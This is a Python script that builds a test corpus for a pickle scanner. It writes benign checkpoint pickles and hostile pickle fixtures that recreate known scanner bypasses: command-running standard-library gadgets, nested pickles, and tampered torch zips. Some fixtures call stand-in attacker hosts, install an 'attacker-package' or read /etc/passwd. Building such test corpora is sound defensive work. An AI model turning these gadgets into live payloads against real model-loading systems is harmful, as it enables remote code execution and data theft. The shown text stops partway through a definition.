#!/usr/bin/env python3
"""Writes the scan corpus: Fixtures/hostile/scan_*.{pkl,pt} (public bypasses of pickle scanners,
recreated from their descriptions, and standard-library gadgets that run commands or code, touch
files or the network) and Fixtures/benign/* (checkpoint-shaped pickles: numpy values, argparse
namespaces, Lightning-like dicts, whole-model saves of torchvision/timm-like models with
functools.partial(nn.LayerNorm, eps=1e-6), ...). Fixtures/hostile/corpus.tsv and
Fixtures/benign/corpus.tsv list every file with its source; the end-to-end test reads them.

Standard library only: torch, numpy and the gadget modules are never imported. A global is written
from a stand-in (`Ref(module, name)`) that the pickler below emits as GLOBAL (or STACK_GLOBAL)
without looking the name up, so the targets are named, never imported. Nothing written here is
ever loaded. Every payload would `touch ptinspect-pwned-<file>` in the current folder if some
unpickler ran it; HostileTests checks that ptinspect never does.

Run:  python3 scripts/make_scan_corpus.py
"""
import argparse
import collections
import copyreg
import datetime
import decimal
import fractions
import io
import pathlib
import pickle
import struct
import sys
import uuid
import zipfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ROOT / "Fixtures/hostile"
BENIGN = ROOT / "Fixtures/benign"


# ---------------------------------------------------------------------------------------------
# Stand-ins and the pickler that writes them.

class Ref:
    """A global named by module and qualified name; never imported."""

    def __init__(self, module, name):
        self.module, self.name = module, name

    def __call__(self, *args, state=None, listitems=None, dictitems=None):
        return Call(self, args, state, listitems, dictitems)

    def new(self, *args, state=None, listitems=None, dictitems=None):
        return New(self, args, state, listitems, dictitems)


class Call:
    """REDUCE: fn(*args), then BUILD state, APPENDS, SETITEMS."""

    def __init__(self, fn, args, state=None, listitems=None, dictitems=None):
        self.fn, self.args, self.state = fn, args, state
        self.listitems, self.dictitems = listitems, dictitems

    def __reduce__(self):
        return (self.fn, self.args, self.state,
                iter(self.listitems) if self.listitems is not None else None,
                iter(self.dictitems.items()) if self.dictitems is not None else None)


class New:
    """NEWOBJ: cls.__new__(cls, *args), then BUILD state (how protocol 2 saves an object)."""

    def __init__(self, cls, args, state=None, listitems=None, dictitems=None):
        self._cls, self.args, self.state = cls, args, state
        self.listitems, self.dictitems = listitems, dictitems

    @property
    def __class__(self):  # what pickle's NEWOBJ check compares args[0] with
        return self._cls

    def __reduce_ex__(self, protocol):
        return (copyreg.__newobj__, (self._cls,) + self.args, self.state,
                iter(self.listitems) if self.listitems is not None else None,
                iter(self.dictitems.items()) if self.dictitems is not None else None)


class Storage:
    """A tensor storage: written as a persistent id, its bytes as a zip record."""

    def __init__(self, key, cls, numel, itemsize=4):
        self.key, self.cls, self.numel = key, cls, numel
        self.data = bytes(numel * itemsize)


class Pickler(pickle._Pickler):
    """The pure-Python pickler, writing `Ref`s as GLOBAL (STACK_GLOBAL from protocol 4)."""

    def save(self, obj, save_persistent_id=True):
        if type(obj) is Ref:
            x = self.memo.get(id(obj))
            if x is not None:
                self.write(self.get(x[0]))
                return
            if self.proto >= 4:
                self.save(obj.module)
                self.save(obj.name)
                self.write(pickle.STACK_GLOBAL)
            else:
                self.write(pickle.GLOBAL + obj.module.encode() + b"\n" + obj.name.encode() + b"\n")
            self.memoize(obj)
            return
        super().save(obj, save_persistent_id)

    def persistent_id(self, obj):
        if type(obj) is Storage:
            return ("storage", Ref("torch", obj.cls), obj.key, "cpu", obj.numel)
        return None


def dumps(obj, protocol=2):
    buf = io.BytesIO()
    Pickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def torch_zip(path, obj, protocol=2, extra=()):
    """A torch.save-style zip: STEM/data.pkl, STEM/data/N, STEM/version, STEM/byteorder."""
    storages = []

    class Collecting(Pickler):
        def persistent_id(self, o):
            if type(o) is Storage and all(s is not o for s in storages):
                storages.append(o)
            return super().persistent_id(o)

    buf = io.BytesIO()
    Collecting(buf, protocol=protocol).dump(obj)
    stem = path.stem

    def put(z, name, data):
        # A fixed timestamp: regenerating gives the same bytes.
        z.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data)

    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        put(z, f"{stem}/data.pkl", buf.getvalue())
        put(z, f"{stem}/byteorder", "little")
        for s in storages:
            put(z, f"{stem}/data/{s.key}", s.data)
        for name, data in extra:
            put(z, f"{stem}/{name}", data)
        put(z, f"{stem}/version", "3\n")


# torch stand-ins
OrderedDict = collections.OrderedDict
rebuild_tensor = Ref("torch._utils", "_rebuild_tensor_v2")
rebuild_parameter = Ref("torch._utils", "_rebuild_parameter")
_keys = [0]


def tensor(*shape, cls="FloatStorage"):
    numel = 1
    for d in shape:
        numel *= d
    stride, acc = [], 1
    for d in reversed(shape):
        stride.insert(0, acc)
        acc *= d
    _keys[0] += 1
    return rebuild_tensor(Storage(str(_keys[0] - 1), cls, numel, 8 if cls == "LongStorage" else 4),
                          0, tuple(shape), tuple(stride), False, OrderedDict())


def parameter(*shape):
    return rebuild_parameter(tensor(*shape), True, OrderedDict())


def module(mod, cls, params=None, buffers=None, children=None, **attrs):
    state = {
        "training": False, "_parameters": OrderedDict(params or {}),
        "_buffers": OrderedDict(buffers or {}), "_non_persistent_buffers_set": set(),
        "_backward_pre_hooks": OrderedDict(), "_backward_hooks": OrderedDict(),
        "_is_full_backward_hook": None, "_forward_hooks": OrderedDict(),
        "_forward_hooks_with_kwargs": OrderedDict(), "_forward_hooks_always_called": OrderedDict(),
        "_forward_pre_hooks": OrderedDict(), "_forward_pre_hooks_with_kwargs": OrderedDict(),
        "_state_dict_hooks": OrderedDict(), "_state_dict_pre_hooks": OrderedDict(),
        "_load_state_dict_pre_hooks": OrderedDict(), "_load_state_dict_post_hooks": OrderedDict(),
        "_modules": OrderedDict(children or {}),
    }
    state.update(attrs)
    return Ref(mod, cls).new(state=state)


NN = "torch.nn.modules."


def linear(i, o, cls="Linear", mod=NN + "linear"):
    return module(mod, cls, {"weight": parameter(o, i), "bias": parameter(o)}, in_features=i, out_features=o)


def layer_norm(n, eps=1e-6):
    return module(NN + "normalization", "LayerNorm", {"weight": parameter(n), "bias": parameter(n)},
                  normalized_shape=(n,), eps=eps, elementwise_affine=True)


def conv(i, o, k, stride=1):
    return module(NN + "conv", "Conv2d", {"weight": parameter(o, i, k, k), "bias": None},
                  in_channels=i, out_channels=o, kernel_size=(k, k), stride=(stride, stride),
                  padding=(0, 0), dilation=(1, 1), transposed=False, output_padding=(0, 0), groups=1,
                  padding_mode="zeros")


def batch_norm(n):
    return module(NN + "batchnorm", "BatchNorm2d", {"weight": parameter(n), "bias": parameter(n)},
                  {"running_mean": tensor(n), "running_var": tensor(n),
                   "num_batches_tracked": tensor(cls="LongStorage")},
                  num_features=n, eps=1e-5, momentum=0.1, affine=True, track_running_stats=True)


def simple(cls, mod, **attrs):
    return module(NN + mod, cls, **attrs)


def partial(fn, *args, **kw):
    """functools.partial as Python pickles it: REDUCE partial (fn,), BUILD (fn, args, kw, None)."""
    return Ref("functools", "partial")(fn, state=(fn, args, kw or None, None))


def state_dict(prefix_shapes):
    return OrderedDict((k, tensor(*s)) for k, s in prefix_shapes)


SMALL_SD = [("conv.weight", (4, 3, 3, 3)), ("conv.bias", (4,)), ("fc.weight", (2, 4)), ("fc.bias", (2,))]


# ---------------------------------------------------------------------------------------------
# Raw opcodes for the hostile files (protocol 2 unless said).

def op_str(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def op_bytes(b):
    return (b"C" + bytes([len(b)]) + b) if len(b) < 256 else (b"B" + struct.pack("<I", len(b)) + b)


def op_global(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def op_tuple(*items):
    return b"(" + b"".join(items) + b"t"


def call(m, n, *args):
    return op_global(m, n) + op_tuple(*args) + b"R"


def bare(body, proto=2):
    return b"\x80" + bytes([proto]) + body + b"."


def touch(name):
    return f"touch ptinspect-pwned-{name}"


def pycode(name):
    return f"__import__('os').system('{touch(name)}')"


def hostile_files():
    """(file, source, what it does, bytes or a writer)."""
    out = []

    def add(name, source, what, data):
        out.append((name, source, what, data))

    def gadget(name, source, what, m, n, *args):
        add(name, source, what, bare(call(m, n, *args)))

    t = touch
    # The issue's own examples: standard-library code outside any denylist.
    gadget("scan_assert_python_ok.pkl", "issue 17; advisory against picklescan (test.support gadget)",
           "test.support.script_helper.assert_python_ok('-c', code): runs a Python command line",
           "test.support.script_helper", "assert_python_ok", op_str("-c"), op_str(pycode("apo")))
    gadget("scan_cgi_test.pkl", "issue 17", "cgi.test(): a CGI test handler (standard library, no denylist names it)",
           "cgi", "test")
    gadget("scan_spawn_python.pkl", "picklescan advisories (test.support gadgets)",
           "test.support.script_helper.spawn_python('-c', code): starts a Python process",
           "test.support.script_helper", "spawn_python", op_str("-c"), op_str(pycode("spawn")))
    # modelscan#338 and #330.
    gadget("scan_collect_env_run.pkl", "modelscan#338", "torch.utils.collect_env.run(cmd): runs a shell command",
           "torch.utils.collect_env", "run", op_str(t("collect_env")))
    add("scan_spawnv_passfds.pkl", "modelscan#338",
        "multiprocessing.util.spawnv_passfds('/bin/sh', ['sh','-c',cmd], ()): starts a process",
        bare(call("multiprocessing.util", "spawnv_passfds", op_bytes(b"/bin/sh"),
                  b"]" + b"(" + op_str("sh") + op_str("-c") + op_str(t("spawnv")) + b"e", b")"), proto=3))
    gadget("scan_pandas_read_csv.pkl", "modelscan#338", "pandas.read_csv(url): reads a file or URL",
           "pandas", "read_csv", op_str("https://attacker.invalid/x.csv"))
    add("scan_numpy_builtins.pkl", "modelscan#330",
        "STACK_GLOBAL numpy '__builtins__.eval' + REDUCE: eval reached through an innocent module",
        bare(op_str("numpy") + op_str("__builtins__.eval") + b"\x93" + op_tuple(op_str(pycode("npbi"))) + b"R",
             proto=4))
    add("scan_torch_os_walk.pkl", "attribute-walk class of bypass (GLOBAL torch hub.load, modelscan#330)",
        "STACK_GLOBAL torch 'os.system' + REDUCE: os reached as an attribute of torch",
        bare(op_str("torch") + op_str("os.system") + b"\x93" + op_tuple(op_str(t("torchos"))) + b"R", proto=4))
    # picklescan's advisories, one gadget each (picklescan added them to its denylist one by one).
    for name, m, n, args, what in [
        ("scan_code_interp.pkl", "code", "InteractiveInterpreter.runsource", None,
         "code.InteractiveInterpreter().runsource(src): runs Python source"),
        ("scan_trace_run.pkl", "trace", "Trace.run", None, "trace.Trace().run(src): runs Python source"),
    ]:
        inst = op_global(m, n.split(".")[0]) + b")\x81"
        add(name, "picklescan advisories", what,
            bare(op_str(m) + op_str(n) + b"\x93" + op_tuple(inst, op_str(pycode(name))) + b"R", proto=4))
    for name, m, n, args, what in [
        ("scan_doctest_debug_script.pkl", "doctest", "debug_script", [op_str(pycode("doctest"))],
         "doctest.debug_script(src): runs Python source under pdb"),
        ("scan_ensurepip_run_pip.pkl", "ensurepip", "_run_pip",
         [b"]" + b"(" + op_str("install") + op_str("attacker-package") + b"e"], "ensurepip._run_pip(args): runs pip"),
        ("scan_imaplib_stream.pkl", "imaplib", "IMAP4_stream", [op_str(t("imap"))],
         "imaplib.IMAP4_stream(cmd): runs a command as the IMAP transport"),
        ("scan_timeit.pkl", "timeit", "timeit", [op_str(pycode("timeit"))], "timeit.timeit(stmt): runs Python source"),
        ("scan_cprofile_run.pkl", "cProfile", "run", [op_str(pycode("cprofile"))], "cProfile.run(src): runs Python source"),
        ("scan_profile_run.pkl", "profile", "run", [op_str(pycode("profile"))], "profile.run(src): runs Python source"),
        ("scan_pdb_run.pkl", "pdb", "run", [op_str(pycode("pdb"))], "pdb.run(src): runs Python source"),
        ("scan_pydoc_pipepager.pkl", "pydoc", "pipepager", [op_str("x"), op_str(t("pydoc"))],
         "pydoc.pipepager(text, cmd): runs a shell command"),
        ("scan_pyrepl_pipe_pager.pkl", "_pyrepl.pager", "pipe_pager", [op_str("x"), op_str(t("pyrepl"))],
         "_pyrepl.pager.pipe_pager(text, cmd) (3.13+): runs a shell command"),
        ("scan_uuid_command.pkl", "uuid", "_get_command_stdout", [op_str("touch"), op_str("ptinspect-pwned-uuid")],
         "uuid._get_command_stdout(cmd, *args): runs a command"),
        ("scan_osx_support.pkl", "_osx_support", "_read_output", [op_str(t("osx"))],
         "_osx_support._read_output(cmd): runs a shell command"),
        ("scan_aix_support.pkl", "_aix_support", "_read_cmd_output", [op_str(t("aix"))],
         "_aix_support._read_cmd_output(cmd): runs a shell command"),
        ("scan_distutils_write_file.pkl", "distutils.file_util", "write_file",
         [op_str("ptinspect-pwned-distutils"), b"]" + b"(" + op_str("x") + b"e"],
         "distutils.file_util.write_file(path, lines): writes a file"),
        ("scan_venv_create.pkl", "venv", "create", [op_str("ptinspect-pwned-venv")],
         "venv.create(dir): creates an environment (and can run pip)"),
        ("scan_pip_main.pkl", "pip", "main", [b"]" + b"(" + op_str("install") + op_str("attacker-package") + b"e"],
         "pip.main(args): installs a package (picklescan CVE-2025-1716)"),
        ("scan_asyncio_subprocess.pkl", "asyncio.unix_events", "_UnixSubprocessTransport._start",
         [b"N", op_str(t("asyncio")), b"\x88"],
         "an asyncio submodule that starts processes (submodule-matching bypass of picklescan)"),
        ("scan_ssl_certificate.pkl", "ssl", "get_server_certificate",
         [op_tuple(op_str("exfil.attacker.invalid"), b"M\xbb\x01")],
         "ssl.get_server_certificate((host, port)): a network connection (DNS exfiltration advisory against picklescan)"),
        ("scan_linecache.pkl", "linecache", "getlines", [op_str("/etc/passwd")],
         "linecache.getlines(path): reads any file (standard library, no denylist names it)"),
        ("scan_antigravity.pkl", "antigravity", "geohash", [b"G" + struct.pack(">d", 0.0), b"G" + struct.pack(">d", 0.0), op_bytes(b"x")],
         "GLOBAL antigravity ...: importing the module opens a web browser"),
        ("scan_dbm_open.pkl", "dbm", "open", [op_str("ptinspect-pwned-dbm"), op_str("c")],
         "dbm.open(path, 'c'): creates a database file"),
        ("scan_wave_open.pkl", "wave", "open", [op_str("ptinspect-pwned-wave"), op_str("wb")],
         "wave.open(path, 'wb'): creates a file"),
        ("scan_zipfile_write.pkl", "zipfile", "ZipFile", [op_str("ptinspect-pwned-zip"), op_str("w")],
         "zipfile.ZipFile(path, 'w'): creates a file"),
        ("scan_smtplib.pkl", "smtplib", "SMTP", [op_str("mail.attacker.invalid")],
         "smtplib.SMTP(host): a network connection"),
        ("scan_idlelib_pyshell.pkl", "idlelib.pyshell", "main", [],
         "idlelib.pyshell.main(): starts IDLE's shell (idlelib gadgets, picklescan advisories)"),
        ("scan_logging_filehandler.pkl", "logging", "FileHandler", [op_str("ptinspect-pwned-filehandler")],
         "logging.FileHandler(path): creates a file (picklescan CVE-2026-56304, fixed in 1.0.1)"),
        ("scan_runpy_run_path.pkl", "runpy", "_run_code",
         [op_str(pycode("runpy")), b"}"], "runpy._run_code(src, globals): runs Python source"),
    ]:
        plain = m in ("linecache", "antigravity", "dbm", "wave", "zipfile", "smtplib")
        add(name, "standard-library gadget" if plain else "picklescan advisories (denylist additions)",
            what, bare(call(m, n, *args), proto=3 if any(b"C" == a[:1] for a in args) else 2))
    # Classic gadget chains.
    add("scan_getattr_chain.pkl", "gadget chain (fickling and picklescan test suites)",
        "getattr(__import__('os'), 'system')(cmd): the callable is computed while loading",
        bare(op_global("builtins", "getattr") + op_tuple(call("builtins", "__import__", op_str("os")), op_str("system"))
             + b"R" + op_tuple(op_str(t("getattr"))) + b"R"))
    add("scan_methodcaller.pkl", "gadget chain (operator gadgets)",
        "operator.methodcaller('system', cmd)(os module): a method called by name",
        bare(call("_operator", "methodcaller", op_str("system"), op_str(t("methodcaller")))
             + op_tuple(call("importlib", "import_module", op_str("os"))) + b"R"))
    add("scan_marshal_function.pkl", "code-object class of bypass (marshal + types, reported against fickling)",
        "types.FunctionType(marshal.loads(b'...'), {})(): runs a code object from the file",
        bare(op_global("types", "FunctionType") + op_tuple(call("marshal", "loads", op_bytes(b"\xe3" + bytes(40))), b"}")
             + b"R" + b")R", proto=3))
    # functools.partial by what it wraps.
    add("scan_partial_system.pkl", "functools.partial gadget",
        "functools.partial(posix.system, cmd)(): the partial wraps os.system",
        bare(op_global("functools", "partial") + op_tuple(op_global("posix", "system"), op_str(t("partial")))
             + b"R" + b")R"))
    add("scan_partial_state_swap.pkl", "functools.partial gadget (BUILD state replaces the function)",
        "partial(builtins.print) whose BUILD state (func, args, kwds, dict) swaps in subprocess.getoutput",
        bare(op_global("functools", "partial") + op_tuple(op_global("builtins", "repr")) + b"R"
             + op_tuple(op_global("subprocess", "getoutput"), op_tuple(op_str(t("partialstate"))), b"N", b"N") + b"b"
             + b")R"))
    # Nested pickles: the payload is bytes handed to a loader.
    inner = bare(call("posix", "system", op_str(t("nested"))))
    add("scan_nested_pickle_loads.pkl", "nested-pickle class of bypass (issue 17)",
        "pickle.loads(b'<posix.system payload>') (BINBYTES, protocol 3)",
        bare(call("pickle", "loads", op_bytes(inner)), proto=3))
    latin = inner.decode("latin1")
    add("scan_nested_codecs.pkl", "nested-pickle class of bypass (protocol 2 bytes)",
        "_pickle.loads(_codecs.encode('<payload>', 'latin1')): bytes as protocol 2 writes them",
        bare(call("_pickle", "loads", call("_codecs", "encode", op_str(latin), op_str("latin1")))))
    add("scan_nested_torch_load.pkl", "nested-pickle class of bypass (issue 17)",
        "torch.load(io.BytesIO(b'<payload>')): a torch.load inside the pickle",
        bare(call("torch", "load", call("_io", "BytesIO", op_bytes(inner))), proto=3))
    add("scan_nested_numpy_loads.pkl", "nested-pickle class of bypass (issue 17)",
        "numpy.loads(b'<payload>')", bare(call("numpy", "loads", op_bytes(inner)), proto=3))
    deep = bare(call("cloudpickle", "loads", op_bytes(bare(call("dill", "loads", op_bytes(inner)), proto=3))), proto=3)
    add("scan_nested_three_deep.pkl", "nested-pickle class of bypass",
        "pickle._loads(cloudpickle.loads(dill.loads(posix.system))): three loaders deep",
        bare(call("pickle", "_loads", op_bytes(deep)), proto=3))
    add("scan_nested_config_module.pkl", "picklescan advisory (torch.utils._config_module)",
        "ConfigModule.load_config(self, b'<payload>'): pickle.loads inside torch",
        bare(op_str("torch.utils._config_module") + op_str("ConfigModule.load_config") + b"\x93"
             + op_tuple(b"N", op_bytes(inner)) + b"R", proto=4))

    def zip_payload(path):
        data = bare(call("posix", "system", op_str(t(path.stem))))
        return data

    def write_storage_bytes(path):
        torch_zip(path, {"x": tensor(2), "extra": Ref("torch.storage", "_load_from_bytes")(
            bare(call("posix", "system", op_str(t("loadfrombytes")))))}, protocol=3)

    add("scan_nested_load_from_bytes.pt", "nested torch.load (torch.storage._load_from_bytes)",
        "a torch zip whose data.pkl calls torch.storage._load_from_bytes(b'<payload>')", write_storage_bytes)

    def write_hidden(path):
        torch_zip(path, {"x": tensor(2)}, extra=[("extra/payload.bin", zip_payload(path))])

    add("scan_zip_hidden_member.pt", "picklescan CVE-2025-1889 (pickles in non-standard members)",
        "a torch zip with a second pickle in extra/payload.bin", write_hidden)

    def write_crc(path):
        torch_zip(path, {"x": tensor(2), "p": Ref("posix", "system")(t("crc"))})
        data = bytearray(path.read_bytes())
        # Corrupt the CRC of data.pkl in both headers: torch ignores CRCs, zipfile refuses the entry.
        name = f"{path.stem}/data.pkl".encode()
        for sig, crc_at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
            i = data.find(sig)
            while i >= 0:
                off = 30 if sig == b"PK\x03\x04" else 46
                if data[i + off:i + off + len(name)] == name:
                    data[i + crc_at:i + crc_at + 4] = b"\xde\xad\xbe\xef"
                i = data.find(sig, i + 4)
        path.write_bytes(bytes(data))

    add("scan_zip_bad_crc.pt", "picklescan CVE-2025-10156 (CRC errors make zipfile refuse the entry)",
        "a torch zip calling posix.system whose data.pkl CRC is wrong", write_crc)

    def write_flag(path):
        torch_zip(path, {"x": tensor(2), "p": Ref("posix", "system")(t("flag"))})
        data = bytearray(path.read_bytes())
        for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            i = data.find(sig)
            while i >= 0:
                data[i + flag_at] |= 0x01  # "encrypted": zipfile refuses it, torch reads it
                i = data.find(sig, i + 4)
        path.write_bytes(bytes(data))

    add("scan_zip_encrypted_flag.pt", "picklescan CVE-2025-1945 (flag bits)",
        "a torch zip calling posix.system with the encryption flag set on every entry", write_flag)

    def write_bare_pt(path):
        path.write_bytes(bare(call("posix", "system", op_str(t("barept")))))

    add("scan_pickle_named_pt.pt", "picklescan CVE-2025-10155 (a plain pickle with a PyTorch extension)",
        "a bare pickle calling posix.system, named .pt", write_bare_pt)
    add("scan_stack_global_memo.pkl", "STACK_GLOBAL with memoised operands (scanner bypass class)",
        "STACK_GLOBAL whose module and name come from BINGET of memoised strings",
        bare(op_str("posix") + b"q\x00" + op_str("system") + b"q\x01" + b"0" + b"0" + b"h\x00h\x01\x93"
             + op_tuple(op_str(t("memo"))) + b"R", proto=4))
    return out


# ---------------------------------------------------------------------------------------------
# Benign files.

def vit_like(prefix="torchvision.models.vision_transformer", cls="VisionTransformer", dim=8, layers=2):
    norm = partial(Ref(NN + "normalization", "LayerNorm"), eps=1e-6)
    blocks = OrderedDict()
    for i in range(layers):
        attn = simple("MultiheadAttention", "activation",
                      params={"in_proj_weight": parameter(3 * dim, dim), "in_proj_bias": parameter(3 * dim)},
                      children={"out_proj": linear(dim, dim, "NonDynamicallyQuantizableLinear")},
                      embed_dim=dim, num_heads=2, batch_first=True, dropout=0.0)
        mlp = module(prefix, "MLPBlock", children={
            "0": linear(dim, 2 * dim), "1": simple("GELU", "activation", approximate="none"),
            "2": simple("Dropout", "dropout", p=0.0, inplace=False), "3": linear(2 * dim, dim),
            "4": simple("Dropout", "dropout", p=0.0, inplace=False)})
        blocks[f"encoder_layer_{i}"] = module(prefix, "EncoderBlock", children={
            "ln_1": layer_norm(dim), "self_attention": attn, "dropout": simple("Dropout", "dropout", p=0.0, inplace=False),
            "ln_2": layer_norm(dim), "mlp": mlp}, num_heads=2)
    encoder = module(prefix, "Encoder", {"pos_embedding": parameter(1, 5, dim)},
                     children={"dropout": simple("Dropout", "dropout", p=0.0, inplace=False),
                               "layers": simple("Sequential", "container", children=blocks), "ln": layer_norm(dim)})
    return module(prefix, cls, {"class_token": parameter(1, 1, dim)},
                  children={"conv_proj": conv(3, dim, 4, 4), "encoder": encoder,
                            "heads": simple("Sequential", "container", children={"head": linear(dim, 10)})},
                  image_size=8, patch_size=4, hidden_dim=dim, mlp_dim=2 * dim, attention_dropout=0.0,
                  dropout=0.0, num_classes=10, representation_size=None, norm_layer=norm, seq_length=5)


def timm_like():
    norm = partial(Ref(NN + "normalization", "LayerNorm"), eps=1e-6)
    act = Ref(NN + "activation", "GELU")
    fmt = Ref("timm.layers.format", "Format")("NCHW")
    blocks = OrderedDict()
    for i in range(2):
        blocks[str(i)] = module("timm.models.vision_transformer", "Block", children={
            "norm1": layer_norm(8), "attn": module("timm.models.vision_transformer", "Attention", children={
                "qkv": linear(8, 24), "attn_drop": simple("Dropout", "dropout", p=0.0, inplace=False),
                "proj": linear(8, 8)}, num_heads=2, head_dim=4, scale=0.5, fused_attn=True),
            "ls1": simple("Identity", "linear"), "norm2": layer_norm(8),
            "mlp": module("timm.layers.mlp", "Mlp", children={
                "fc1": linear(8, 16), "act": act.new(state={"training": False, "_modules": OrderedDict(), "approximate": "none"}),
                "fc2": linear(16, 8)})})
    return module("timm.models.vision_transformer", "VisionTransformer",
                  {"cls_token": parameter(1, 1, 8), "pos_embed": parameter(1, 5, 8)},
                  children={"patch_embed": module("timm.layers.patch_embed", "PatchEmbed",
                                                  children={"proj": conv(3, 8, 4, 4), "norm": simple("Identity", "linear")},
                                                  output_fmt=fmt, flatten=True, strict_img_size=True),
                            "blocks": simple("Sequential", "container", children=blocks),
                            "norm": layer_norm(8), "head": linear(8, 10)},
                  num_classes=10, global_pool="token", embed_dim=8, num_prefix_tokens=1,
                  norm_layer=norm, act_layer=act)


def resnet_like():
    R = "torchvision.models.resnet"

    def block(c):
        return module(R, "BasicBlock", children={
            "conv1": conv(c, c, 3), "bn1": batch_norm(c), "relu": simple("ReLU", "activation", inplace=True),
            "conv2": conv(c, c, 3), "bn2": batch_norm(c)}, downsample=None, stride=1)

    return module(R, "ResNet", children={
        "conv1": conv(3, 4, 7, 2), "bn1": batch_norm(4), "relu": simple("ReLU", "activation", inplace=True),
        "maxpool": simple("MaxPool2d", "pooling", kernel_size=3, stride=2, padding=1, dilation=1,
                          return_indices=False, ceil_mode=False),
        "layer1": simple("Sequential", "container", children={"0": block(4), "1": block(4)}),
        "avgpool": simple("AdaptiveAvgPool2d", "pooling", output_size=(1, 1)), "fc": linear(4, 10)},
        inplanes=4, dilation=1, groups=1, base_width=64)


def np_array(shape, dtype="f4", data=None):
    mod = "numpy.core.multiarray"
    arr = Ref(mod, "_reconstruct")(Ref("numpy", "ndarray"), (0,), b"b")
    n = 1
    for d in shape:
        n *= d
    arr.state = (1, tuple(shape), Ref("numpy", "dtype")(dtype, False, True, state=(3, "<", None, None, None, -1, -1, 0)),
                 False, data if data is not None else bytes(n * 4))
    return arr


def np_scalar(value=0.5):
    return Ref("numpy.core.multiarray", "scalar")(
        Ref("numpy", "dtype")("f8", False, True, state=(3, "<", None, None, None, -1, -1, 0)), struct.pack("<d", value))


def benign_files():
    out = []

    def add(name, what, writer):
        out.append((name, what, writer))

    add("state_dict_numpy.pt", "state dict plus numpy values (scalar, array, dtype) in a training dict",
        lambda p: torch_zip(p, {"model": state_dict(SMALL_SD), "best_acc": np_scalar(0.91),
                                "class_weights": np_array((3,)), "epoch": 7}))
    ns = argparse.Namespace(lr=0.1, batch_size=32, arch="resnet18", data=pathlib.PurePosixPath("/data/imagenet"))
    add("checkpoint_argparse.pt", "{'model', 'args': argparse.Namespace(...), 'epoch'}",
        lambda p: torch_zip(p, {"model": state_dict(SMALL_SD), "args": ns, "epoch": 90}))
    hp = Ref("lightning_fabric.utilities.data", "AttributeDict").new(dictitems={"lr": 1e-3, "hidden": 64})
    lightning = {
        "epoch": 4, "global_step": 500, "pytorch-lightning_version": "2.4.0",
        "state_dict": OrderedDict((f"model.{k}", v) for k, v in state_dict(SMALL_SD).items()),
        "loops": {"fit_loop": {"state_dict": {}, "epoch_progress": {"total": {"ready": 5, "completed": 4}}}},
        "callbacks": {"ModelCheckpoint{'monitor': 'val_loss', 'mode': 'min'}": {
            "monitor": "val_loss", "best_model_score": tensor(), "best_model_path": "/ckpt/epoch=3.ckpt",
            "dirpath": "/ckpt", "last_model_path": ""}},
        "optimizer_states": [{"state": {0: {"step": tensor(), "exp_avg": tensor(4, 3, 3, 3)}},
                              "param_groups": [{"lr": 1e-3, "betas": (0.9, 0.999), "params": [0, 1, 2, 3]}]}],
        "lr_schedulers": [{"T_max": 10, "base_lrs": [1e-3], "last_epoch": 4}],
        "hparams_name": "kwargs", "hyper_parameters": hp,
    }
    add("lightning_like.ckpt", "Lightning-style checkpoint: loops, callbacks, optimizer states, AttributeDict hparams",
        lambda p: torch_zip(p, lightning))
    add("whole_model_vit_like.pt", "torch.save(vit_b_16())-style whole model: nn classes and partial(LayerNorm, eps=1e-6)",
        lambda p: torch_zip(p, vit_like()))
    add("whole_model_timm_like.pt", "timm VisionTransformer-style whole model: partial(LayerNorm), GELU class, Format enum",
        lambda p: torch_zip(p, timm_like()))
    add("whole_model_resnet_like.pt", "torchvision ResNet-style whole model", lambda p: torch_zip(p, resnet_like()))
    opt = {"state": collections.defaultdict(dict, {0: {"momentum_buffer": tensor(4)}}),
           "param_groups": [{"lr": 0.1, "momentum": 0.9, "params": [0]}]}
    add("optimizer_defaultdict.pt", "optimizer state with collections.defaultdict(dict)",
        lambda p: torch_zip(p, {"optimizer": opt, "model": state_dict(SMALL_SD)}))
    ta = Ref("transformers.training_args", "TrainingArguments").new(state={
        "output_dir": "out", "learning_rate": 5e-5,
        "eval_strategy": Ref("transformers.trainer_utils", "IntervalStrategy")("steps"),
        "lr_scheduler_type": Ref("transformers.trainer_utils", "SchedulerType")("linear"),
        "logging_dir": "out/runs"})
    add("training_args.bin", "Hugging Face training_args.bin: TrainingArguments with enum members",
        lambda p: torch_zip(p, ta))
    rng = Ref("numpy.random._pickle", "__randomstate_ctor")(
        "MT19937", Ref("numpy.random._pickle", "__bit_generator_ctor"),
        state={"bit_generator": "MT19937", "state": {"key": np_array((624,), "u4", bytes(2496)), "pos": 624},
               "has_gauss": 0, "gauss": 0.0})
    add("numpy_rng_state.pt", "checkpoint with a numpy RandomState (RNG state for resuming)",
        lambda p: torch_zip(p, {"model": state_dict(SMALL_SD), "np_rng": rng, "py_rng": (3, tuple(range(5)), None)}))
    meta = {"saved_at": datetime.datetime(2026, 1, 2, 3, 4, 5), "elapsed": datetime.timedelta(hours=3),
            "run_id": uuid.UUID("12345678-1234-5678-1234-567812345678"), "lr": decimal.Decimal("0.001"),
            "ratio": fractions.Fraction(1, 3), "out": pathlib.PurePosixPath("runs/x"),
            "data": pathlib.PosixPath("/data")}
    add("metadata_stdlib.pt", "datetime, timedelta, UUID, Decimal, Fraction, PurePosixPath and PosixPath metadata",
        lambda p: torch_zip(p, {"model": state_dict(SMALL_SD), "meta": meta}))
    cfg = {"optimizer": partial(Ref("torch.optim.adam", "Adam"), lr=1e-3, weight_decay=0.01),
           "scheduler": partial(Ref("torch.optim.lr_scheduler", "CosineAnnealingLR"), T_max=10),
           "activation": partial(Ref(NN + "activation", "GELU"), approximate="tanh")}
    add("partial_config.pkl", "a Hydra-style config pickle of functools.partial(optimizer/scheduler classes)",
        lambda p: p.write_bytes(dumps(cfg)))
    scaler = Ref("sklearn.preprocessing._data", "StandardScaler").new(state={
        "with_mean": True, "with_std": True, "copy": True, "n_features_in_": 3,
        "mean_": np_array((3,), "f8", bytes(24)), "scale_": np_array((3,), "f8", bytes(24)),
        "_sklearn_version": "1.5.0"})
